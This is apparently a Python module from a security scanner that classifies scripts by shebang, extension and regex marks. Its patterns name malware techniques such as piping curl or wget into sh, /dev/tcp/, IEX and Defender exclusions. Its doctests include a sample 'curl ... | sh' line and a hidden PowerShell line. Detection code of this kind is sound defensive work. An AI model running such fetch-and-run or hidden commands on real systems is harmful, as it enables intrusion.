"""Which scripting language a member, or a text carried inside other code, is written in."""

import re
from typing import Final

HEAD: Final = 4_096
"""Characters or bytes of the beginning by which a text is recognised."""

_EXTENSIONS: Final = {
    "sh": "shell",
    "bash": "shell",
    "zsh": "shell",
    "ksh": "shell",
    "command": "shell",
    "ps1": "powershell",
    "psm1": "powershell",
    "bat": "batch",
    "cmd": "batch",
    "vbs": "vbscript",
    "vbe": "vbscript",
    "js": "javascript",
    "cjs": "javascript",
    "mjs": "javascript",
    "jse": "javascript",
    "jsx": "javascript",
    "ts": "javascript",
    "mts": "javascript",
    "cts": "javascript",
}
_INTERPRETERS: Final = {
    "sh": "shell",
    "bash": "shell",
    "zsh": "shell",
    "dash": "shell",
    "ksh": "shell",
    "ash": "shell",
    "busybox": "shell",
    "pwsh": "powershell",
    "powershell": "powershell",
    "node": "javascript",
    "nodejs": "javascript",
    "deno": "javascript",
    "bun": "javascript",
}
_SHEBANG = re.compile(r"#!\s*(?:\S*/)?(?:env\s+(?:-\S+\s+)*)?(?:\S*/)?([A-Za-z]+)")

_PROSE = re.compile(r"\s*(?:[A-Z][a-z]+[ ,.:;]|[-=*#]{3,}|[A-Z][a-z]+\n)")
"""A text that begins like a sentence or a heading quotes commands, it does not run them."""

_FETCHERS = r"(?:curl|wget|fetch|lwp-download)"
_MARKS: Final[tuple[tuple[str, re.Pattern[str]], ...]] = tuple(
    (language, re.compile(pattern, re.IGNORECASE | re.MULTILINE))
    for language, pattern in (
        (
            "batch",
            r"^\s{0,20}@?echo off\b|^\s{0,20}@?setlocal\b|^\s{0,20}(?:\S{0,200}\\)?cmd(?:\.exe)?\s+/[ckv]\b",
        ),
        (
            "powershell",
            r"^\s{0,20}(?:&\s?)?\"?(?:[^\s\"|;]{0,200}[\\/])?(?:powershell|pwsh)(?:\.exe)?\"?\s+[-/\"'&$(]",
        ),
        (
            "vbscript",
            r"\b(?:CreateObject|GetObject)\s?\(\s?\"(?!.{0,80}\)\s?;)|\bWScript\.(?:Shell|Sleep|Echo|CreateObject)\b",
        ),
        (
            "javascript",
            (
                r"\brequire\(\s?['\"](?:node:)?(?:child_process|fs|https?|os|net|dns|path|crypto|vm)['\"]\s?\)"
                r"|\bprocess\.(?:env|argv|platform|mainModule)\b|\bnew ActiveXObject\(|\bmodule\.exports\b"
                r"|\b(?:const|let|var)\s+_0x[0-9a-f]{3,8}\b"
            ),
        ),
        (
            "powershell",
            (
                r"\b(?:Invoke-(?:WebRequest|Expression|RestMethod|Command|Item)|New-Object\s+(?:System\.)?Net\."
                r"|Start-Process|Add-MpPreference|Set-MpPreference|Start-BitsTransfer|Get-(?:Process|Content|Item|WmiObject"
                r"|ChildItem)\s+[-$'\"]|Write-Host\s+[$'\"])"
                r"|\$env:[A-Z]|\[(?:System\.)?(?:Convert|Text\.Encoding|Reflection\.Assembly|Net\.ServicePointManager)\]::"
                r"|\bIEX\s?[(\"'$]"
            ),
        ),
        (
            "batch",
            r"^\s{0,20}(?:reg(?:\.exe)?\s+add|schtasks(?:\.exe)?\s+/|bitsadmin\s|certutil\s+-|start\s+/[a-z]|taskkill\s+/)",
        ),
        (
            "shell",
            (
                rf"\b{_FETCHERS}\b[^\n|;]{{0,400}}\|\s{{0,5}}(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:ba|z|da)?sh\s+-c\s+['\"$]"
                r"|\bbase64\s+(?:-d|-D|--decode)\b|/dev/tcp/|\bchmod\s+(?:\+x|[0-7]{3,4})\s"
                rf"|^\s{{0,20}}{_FETCHERS}\s+-{{0,2}}\S{{1,300}}\s|^\s{{0,20}}(?:export\s+\w+=|nohup\s|sudo\s|crontab\s)"
            ),
        ),
    )
)


def language_of(path: str, content: bytes) -> str | None:
    r"""
    Return the language of a member by its shebang, its extension, or what it says; None if it is no script.

    >>> language_of("run", b"#!/usr/bin/env bash\nls"), language_of("a.ps1", b""), language_of("a.py", b"import os")
    ('shell', 'powershell', None)
    """
    head = script_text(content[:HEAD])
    if head.startswith("#!"):
        found = _SHEBANG.match(head)
        if found:
            return _INTERPRETERS.get(found.group(1).lower())
    name = path.rsplit("/", 1)[-1].lower()
    stem, dot, extension = name.rpartition(".")
    if dot and stem:
        if name.endswith((".d.ts", ".d.mts", ".d.cts")):
            return None  # types only: nothing in it runs
        return _EXTENSIONS.get(extension)
    return looks_like_script(head) if "\0" not in head else None


def script_text(content: bytes) -> str:
    r"""
    Return the text of a script, also in the UTF-16 that Windows' own editors write.

    >>> script_text("iex $x".encode("utf-16"))
    'iex $x'
    """
    if content.startswith((b"\xff\xfe", b"\xfe\xff")):
        return content[: len(content) & ~1].decode("utf-16", "replace")
    return content.decode("utf-8-sig", "replace")


def looks_like_script(text: str) -> str | None:
    """
    Return the language of a text carried inside other code, or None if it does not look like a script.

    >>> looks_like_script("powershell -w hidden -c x"), looks_like_script("curl http://h.invalid/a | sh")
    ('powershell', 'shell')
    >>> looks_like_script('Set s = CreateObject("WScript.Shell")'), looks_like_script("a plain sentence") is None
    ('vbscript', True)
    """
    head = text[:HEAD]
    if head.startswith("#!"):
        found = _SHEBANG.match(head)
        return _INTERPRETERS.get(found.group(1).lower()) if found else None
    prose = _PROSE.match(head) is not None
    for language, pattern in _MARKS:
        if pattern.search(head) and not (prose and language in {"shell", "batch"}):
            return language
    return None
